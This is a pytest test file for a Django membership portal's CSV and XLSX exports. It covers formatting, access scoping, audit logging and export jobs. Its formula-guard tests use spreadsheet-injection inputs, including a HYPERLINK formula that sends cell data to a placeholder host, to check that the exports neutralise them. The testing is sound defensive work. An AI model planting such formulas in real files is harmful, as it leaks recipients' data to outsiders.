"""Exports: real readers open the files, formulas never get through, scope and log hold."""

import csv
import io
import re
from datetime import date, datetime, timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from bijeenkomsten.models import Aanmelding
from leden.models import Lid, Lidmaatschap
from portal import exportjobs
from portal.exports import (
    EXPORT_FILE_RETENTION,
    FORMULA_TRIGGERS,
    BaseExport,
    CsvDialect,
    Format,
    export_job_run,
)
from portal.models import ExportJob, ExportLog, export_storage
from portal.personal_data import retentions
from portal.queueing import enqueue, enqueue_on_commit
from tests import factories, mailfixtures
from tests.accountfixtures import give_totp

eager_celery = mailfixtures.eager_celery

ACCENTED = "Élodie Brontë-Françoise"
HEADER_NAME = "naam"


def _login(client, user):
    client.force_login(user)
    return client


@pytest.fixture(autouse=True)
def _jobs_run_at_once(monkeypatch, eager_celery):
    """An export job runs in the worker after commit; here it runs at once, in the request
    (the test's transaction never commits). `test_export_job_is_queued_after_commit` checks
    the real order."""
    monkeypatch.setattr(exportjobs, "enqueue_on_commit", enqueue)


def _follow_job(response):
    """The export form answers with the job's page; its link gives the file."""
    assert response.status_code == 302, response.status_code
    client = response.client
    page = client.get(response["Location"])
    assert page.status_code == 200
    link = re.search(r'href="([^"]+/bestand/)"', page.content.decode())
    assert link, page.content.decode()
    return client.get(link.group(1))


def _content(response) -> bytes:
    if response.status_code == 302 and "/taak/" in response["Location"]:
        response = _follow_job(response)
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _csv_rows(response, delimiter: str = ";") -> list[list[str]]:
    body = _content(response)
    text = body.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _xlsx_rows(response) -> list[tuple]:
    workbook = load_workbook(io.BytesIO(_content(response)))
    return list(workbook.worksheets[0].iter_rows(values_only=True))


def _post(client, url, data):
    """Post an export form; when it started a job, the job's file (as a person would get)."""
    response = client.post(url, data)
    if response.status_code == 302 and "/taak/" in response["Location"]:
        return _follow_job(response)
    return response


def _export_members(client, **data):
    return _post(client, reverse("portal:members"), {"formaat": "csv", **data})


def _names(rows) -> set[str]:
    return {row[0] for row in rows[1:]}


@pytest.fixture
def accented(twente):
    lid = factories.LidFactory(naam=ACCENTED, organisatie="Wijkteam Hengelo", bpsw_lid=True)
    factories.LidmaatschapFactory(
        lid=lid, netwerk=twente, schil="betrokken", lid_sinds=date(2021, 3, 1)
    )
    return lid


# --- formats -------------------------------------------------------------------------------


def test_semicolon_csv_has_bom_and_parses_with_accents(client, staff, accented):
    response = _export_members(_login(client, staff))
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    body = _content(response)
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(rows[0]) == 10
    row = next(r for r in rows if r[0] == ACCENTED)
    assert row[2] == "Wijkteam Hengelo"
    assert row[4] == "Regionetwerk Twente"
    assert row[5] == str(Lidmaatschap.Schil.BETROKKEN.label)
    assert row[7] == "2021-03-01"


def test_comma_csv_has_no_bom_and_parses_with_comma(client, staff, accented):
    response = _export_members(_login(client, staff), formaat=Format.CSV_COMMA)
    body = _content(response)
    assert not body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline=""), delimiter=","))
    assert ACCENTED in _names(rows)


def test_xlsx_opens_in_openpyxl_with_rows_and_types(client, staff, accented):
    response = _export_members(_login(client, staff), formaat="xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = _xlsx_rows(response)
    assert len(rows[0]) == 10
    assert len(rows) == 1 + Lidmaatschap.objects.count()
    row = next(r for r in rows if r[0] == ACCENTED)
    assert isinstance(row[7], datetime) and row[7].date() == date(2021, 3, 1)
    assert row[8] is True
    assert row[9] == 0


def test_attended_counts_only_attendance_in_the_last_twelve_months(client, staff, accented):
    now = timezone.now()
    for days_ago, status in [
        (30, "aanwezig"),
        (200, "aanwezig"),
        (400, "aanwezig"),
        (10, "aangemeld"),
    ]:
        meeting = factories.BijeenkomstFactory(begin=now - timedelta(days=days_ago))
        factories.AanmeldingFactory(bijeenkomst=meeting, lid=accented, status=status)
    rows = _xlsx_rows(_export_members(_login(client, staff), formaat="xlsx"))
    assert next(r for r in rows if r[0] == ACCENTED)[9] == 2


def test_filters_narrow_the_member_list(client, cast, accented, twente):
    _login(client, cast["staff"])
    everyone = _names(_csv_rows(_export_members(client)))
    assert {"Kern Twente", "Lid Rotterdam", ACCENTED} <= everyone
    core_twente = _names(_csv_rows(_export_members(client, netwerk=twente.pk, schil="kern")))
    assert core_twente == {"Coördinator Twente", "Kern Twente"}
    recent = _names(_csv_rows(_export_members(client, lid_sinds_vanaf="2021-01-01")))
    assert recent == {ACCENTED}


# --- formula guard -------------------------------------------------------------------------


class ListExport(BaseExport):
    identifier = "test"
    verbose_name = "Test"
    columns = ["name", "number"]

    def __init__(self, values):
        super().__init__(user=None)
        self.values = values

    def rows(self):
        for value in self.values:
            yield (value, 1)


# Any text a database can hold: every code point but NUL and lone surrogates.
names = st.lists(
    st.text(alphabet=st.characters(exclude_categories=("Cs",), exclude_characters="\x00")),
    max_size=5,
)


@pytest.mark.django_db  # the base reads inside a transaction on PostgreSQL
@settings(max_examples=75, deadline=None)
@given(names)
def test_no_csv_cell_starts_with_a_formula_trigger(values):
    for dialect in (CsvDialect(";", True), CsvDialect(",", False)):
        buffer = io.BytesIO()
        ListExport(values).write_csv_file(dialect, buffer)
        text = buffer.getvalue().decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=dialect.delimiter))
        assert len(rows) == 1 + len(values)
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_TRIGGERS)


@pytest.mark.django_db  # the base reads inside a transaction on PostgreSQL
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(names)
@example(["\ufffe"])  # a noncharacter that XML forbids and openpyxl let through: no workbook
def test_no_xlsx_cell_has_the_formula_type(values):
    buffer = io.BytesIO()
    assert ListExport(values).write_file("xlsx", buffer) == len(values)
    sheet = load_workbook(buffer).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(cells) == 2 * (1 + len(values))
    assert all(cell.data_type != "f" for cell in cells)


def test_malicious_names_are_text_through_the_real_view(client, staff, twente):
    evil = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+31 6 1234", "@SUM(1)", "-2+3"]
    for naam in evil:
        factories.LidmaatschapFactory(lid=factories.LidFactory(naam=naam), netwerk=twente)
    _login(client, staff)
    csv_names = _names(_csv_rows(_export_members(client)))
    assert {"'" + naam for naam in evil} <= csv_names
    response = _export_members(client, formaat="xlsx")
    sheet = load_workbook(io.BytesIO(_content(response))).worksheets[0]
    first_column = {row[0].value: row[0].data_type for row in sheet.iter_rows(min_row=2)}
    assert all(first_column[naam] == "s" for naam in evil)


# --- who may export ------------------------------------------------------------------------


def test_coordinator_of_twente_gets_only_twente_members(client, cast, accented):
    for fmt in ("csv", "xlsx"):
        response = _export_members(_login(client, cast["coordinator_twente"]), formaat=fmt)
        rows = _csv_rows(response) if fmt == "csv" else _xlsx_rows(response)
        assert _names(rows) == {"Coördinator Twente", "Kern Twente", "Betrokken Twente", ACCENTED}
        assert {row[4] for row in rows[1:]} == {"Regionetwerk Twente"}


def test_coordinator_cannot_pick_another_network(client, cast, rotterdam):
    response = _export_members(_login(client, cast["coordinator_twente"]), netwerk=rotterdam.pk)
    assert response.status_code == 400
    assert not ExportLog.objects.exists()


@pytest.mark.parametrize("who", ["kern_twente", "lid_rotterdam", "betrokken_twente"])
def test_member_gets_no_export(client, cast, who):
    _login(client, cast[who])
    assert client.get(reverse("portal:index")).status_code == 403
    assert _export_members(client).status_code == 403
    assert not ExportLog.objects.exists()


def test_staff_without_the_export_permission_gets_only_coordinated_networks(client, cast):
    plain_staff = factories.UserFactory(is_staff=True)
    give_totp(plain_staff)  # staff rights wait for the second factor
    assert _export_members(_login(client, plain_staff)).status_code == 403


def test_umbrella_staff_need_the_export_permission_to_export_every_network(client, cast):
    from django.contrib.auth.models import Permission

    umbrella = factories.UserFactory(is_staff=True)
    give_totp(umbrella)
    umbrella.user_permissions.add(Permission.objects.get(codename="alle_netwerken"))
    assert _export_members(_login(client, umbrella)).status_code == 403
    umbrella.user_permissions.add(Permission.objects.get(codename="export_all_networks"))
    rows = _csv_rows(_export_members(_login(client, umbrella)))
    assert {"Kern Twente", "Lid Rotterdam"} <= _names(rows)


def test_visitor_is_sent_to_login(client, cast):
    response = _export_members(client)
    assert response.status_code == 302
    assert reverse("account_login") in response["Location"]
    assert not ExportLog.objects.exists()


def test_export_page_shows_the_filter_form(client, cast):
    response = _login(client, cast["coordinator_twente"]).get(reverse("portal:index"))
    assert response.status_code == 200
    assert b'name="lid_sinds_vanaf"' in response.content
    assert "Regionetwerk Twente" in response.content.decode()
    assert "Regionetwerk Rotterdam" not in response.content.decode()


# --- registrations -------------------------------------------------------------------------


@pytest.fixture
def twente_meeting(cast, twente, accented):
    programma = factories.HalfjaarprogrammaFactory(netwerk=twente)
    meeting = factories.BijeenkomstFactory(netwerken=[twente], programma=programma, capaciteit=1)
    factories.AanmeldingFactory(bijeenkomst=meeting, lid=accented, status="aanwezig")
    factories.AanmeldingFactory(
        bijeenkomst=meeting, lid=Lid.objects.get(user=cast["kern_twente"]), status="wachtlijst"
    )
    factories.AanmeldingFactory(
        bijeenkomst=meeting, lid=None, gast_naam="=Gast", gast_email="gast@example.org"
    )
    return meeting


def test_registration_export_per_meeting_and_programme(client, cast, twente_meeting):
    _login(client, cast["coordinator_twente"])
    urls = [
        reverse("portal:meeting", args=[twente_meeting.pk]),
        reverse("portal:programme", args=[twente_meeting.programma_id]),
    ]
    for url in urls:
        rows = _csv_rows(_post(client, url, {"formaat": "csv"}))
        by_name = {row[2]: row for row in rows[1:]}
        assert set(by_name) == {ACCENTED, "Kern Twente", "'=Gast"}
        assert by_name[ACCENTED][6] == str(Aanmelding.Status.AANWEZIG.label)
        assert by_name["Kern Twente"][6] == str(Aanmelding.Status.WACHTLIJST.label)
        assert by_name["'=Gast"][3] == "gast@example.org"
        xlsx = _xlsx_rows(_post(client, url, {"formaat": "xlsx"}))
        assert {row[2] for row in xlsx[1:]} == {ACCENTED, "Kern Twente", "=Gast"}
    assert ExportLog.objects.count() == 4


def test_meeting_of_another_network_answers_404(client, cast, rotterdam):
    meeting = factories.BijeenkomstFactory(netwerken=[rotterdam])
    programma = factories.HalfjaarprogrammaFactory(netwerk=rotterdam)
    _login(client, cast["coordinator_twente"])
    assert (
        _post(client, reverse("portal:meeting", args=[meeting.pk]), {"formaat": "csv"}).status_code
        == 404
    )
    assert (
        client.post(
            reverse("portal:programme", args=[programma.pk]), {"formaat": "csv"}
        ).status_code
        == 404
    )


# --- the log and the queries -------------------------------------------------------------


def test_every_export_adds_one_log_row(client, cast, twente, twente_meeting):
    _login(client, cast["staff"])
    _content(_export_members(client, netwerk=twente.pk, schil="kern"))
    _content(_export_members(client, formaat="xlsx"))
    _content(_post(client, reverse("portal:meeting", args=[twente_meeting.pk]), {"formaat": "csv"}))
    logs = list(ExportLog.objects.order_by("pk"))
    assert len(logs) == 3
    first = logs[0]
    assert first.user == cast["staff"] and first.user_email == cast["staff"].email
    assert (first.export, first.format, first.rows, first.complete) == ("members", "csv", 2, True)
    assert first.filters == {"netwerk": twente.pk, "schil": "kern"}
    assert logs[1].rows == Lidmaatschap.objects.count() and logs[1].format == "xlsx"
    assert (logs[2].export, logs[2].rows) == ("registrations", 3)


def test_admin_actions_export_members_and_memberships(client, cast, accented):
    _login(client, cast["staff"])
    lid_url = reverse("admin:leden_lid_changelist")
    response = client.post(
        lid_url, {"action": "export_members_csv", "_selected_action": [accented.pk]}
    )
    assert _names(_csv_rows(response)) == {ACCENTED}
    membership = Lidmaatschap.objects.get(lid=accented)
    response = client.post(
        reverse("admin:leden_lidmaatschap_changelist"),
        {"action": "export_members_xlsx", "_selected_action": [membership.pk]},
    )
    assert _names(_xlsx_rows(response)) == {ACCENTED}
    assert list(ExportLog.objects.values_list("source", flat=True)) == ["admin", "admin"]


def _count_export_queries(client, fmt: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = _export_members(client, formaat=fmt)
        assert len(_content(response)) > 0
    return len(queries)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_query_count_does_not_grow_with_rows(client, cast, twente, fmt):
    _login(client, cast["staff"])
    small = _count_export_queries(client, fmt)
    for lid in factories.LidFactory.create_batch(40):
        factories.LidmaatschapFactory(lid=lid, netwerk=twente)
        meeting = factories.BijeenkomstFactory(begin=timezone.now() - timedelta(days=5))
        factories.AanmeldingFactory(bijeenkomst=meeting, lid=lid, status="aanwezig")
    assert ExportLog.objects.last().rows == 4
    large = _count_export_queries(client, fmt)
    assert ExportLog.objects.first().rows == 44
    assert large == small


def test_staff_and_coordinators_find_the_exports_in_the_menu_with_network_and_date(
    client, cast, twente, rotterdam
):
    from django.urls import reverse

    factories.BijeenkomstFactory(titel="Gezamenlijke avond", netwerken=[twente, rotterdam])
    export_url = reverse("portal:index")
    for role in ["staff", "coordinator_twente"]:
        client.force_login(cast[role])
        assert f'href="{export_url}"' in client.get("/").content.decode(), role
    page = client.get(export_url).content.decode()
    row = page[page.index("Gezamenlijke avond") :].split("</tr>")[0]
    assert "Regionetwerk Twente" in row
    for role in ["kern_twente", "lid_rotterdam"]:
        client.force_login(cast[role])
        assert f'href="{export_url}"' not in client.get("/").content.decode(), role


# --- export jobs: the worker writes the file, only its starter downloads it, for a while -----


def _start_job(client, **data):
    response = client.post(reverse("portal:members"), {"formaat": "csv", **data})
    assert response.status_code == 302
    return ExportJob.objects.get(pk=response["Location"].rstrip("/").rsplit("/", 1)[-1])


def test_export_job_is_queued_after_commit_and_page_shows_progress_until_done(
    client, cast, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(exportjobs, "enqueue_on_commit", enqueue_on_commit)
    _login(client, cast["staff"])
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        job = _start_job(client)
    assert len(callbacks) == 1
    assert job.status == ExportJob.Status.QUEUED and job.log.rows is None
    page = client.get(reverse("portal:job", args=[job.pk])).content.decode()
    assert "<progress" in page and 'http-equiv="refresh"' in page and "export-progress.js" in page
    state = client.get(reverse("portal:job_status", args=[job.pk])).json()
    assert state["finished"] is False and state["download_url"] is None
    assert client.get(reverse("portal:job_file", args=[job.pk])).status_code == 404

    callbacks[0]()  # the commit: the (eager) worker runs the job
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE
    assert job.rows_written == job.rows_total == Lidmaatschap.objects.count()
    state = client.get(reverse("portal:job_status", args=[job.pk])).json()
    assert state["finished"] is True and state["percent"] == 100
    assert state["download_url"] == reverse("portal:job_file", args=[job.pk])
    page = client.get(reverse("portal:job", args=[job.pk])).content.decode()
    assert "http-equiv" not in page and state["download_url"] in page
    assert (job.log.rows, job.log.complete) == (job.rows_written, True)


def test_export_file_is_private_and_only_for_whoever_started_it(client, cast, settings):
    _login(client, cast["staff"])
    job = _start_job(client)
    job.refresh_from_db()
    path = export_storage().path(job.file)
    assert path.startswith(str(settings.PRIVATE_MEDIA_ROOT))
    assert not path.startswith(str(settings.MEDIA_ROOT))
    for role in ["coordinator_twente", "kern_twente"]:
        client.force_login(cast[role])
        for name in ("portal:job", "portal:job_status", "portal:job_file"):
            assert client.get(reverse(name, args=[job.pk])).status_code == 404, (role, name)
    client.logout()
    assert client.get(reverse("portal:job_file", args=[job.pk])).status_code == 302


def test_export_file_is_gone_once_its_starter_may_no_longer_export(client, cast):
    coordinator = cast["coordinator_twente"]
    _login(client, coordinator)
    job = _start_job(client)
    assert client.get(reverse("portal:job_file", args=[job.pk])).status_code == 200
    coordinator.gecoordineerde_netwerken.clear()
    assert client.get(reverse("portal:job_file", args=[job.pk])).status_code == 404


def test_export_file_expires_and_the_retention_step_deletes_it(client, cast):
    assert EXPORT_FILE_RETENTION in retentions()
    _login(client, cast["staff"])
    job = _start_job(client)
    job.refresh_from_db()
    storage, name = export_storage(), job.file
    assert storage.exists(name)
    later = job.finished_at + timedelta(days=EXPORT_FILE_RETENTION.days, seconds=1)
    assert EXPORT_FILE_RETENTION.apply(later - timedelta(seconds=2)) == 0
    assert EXPORT_FILE_RETENTION.apply(later) == 1
    assert not storage.exists(name)
    assert EXPORT_FILE_RETENTION.apply(later) == 0  # idempotent
    assert client.get(reverse("portal:job_file", args=[job.pk])).status_code == 404
    page = client.get(reverse("portal:job", args=[job.pk])).content.decode()
    assert "verlopen" in page or "expired" in page


def test_export_job_asks_the_rights_again_in_the_worker(client, cast, monkeypatch):
    _login(client, cast["coordinator_twente"])
    monkeypatch.setattr(exportjobs, "enqueue_on_commit", lambda *args: None)
    job = _start_job(client)
    cast["coordinator_twente"].lid.user.gecoordineerde_netwerken.clear()
    assert export_job_run(job.pk) == "failed"
    assert export_job_run(job.pk) == "not queued"  # claimed once
    job.refresh_from_db()
    assert job.status == ExportJob.Status.FAILED and not job.file
    assert job.log.complete is False
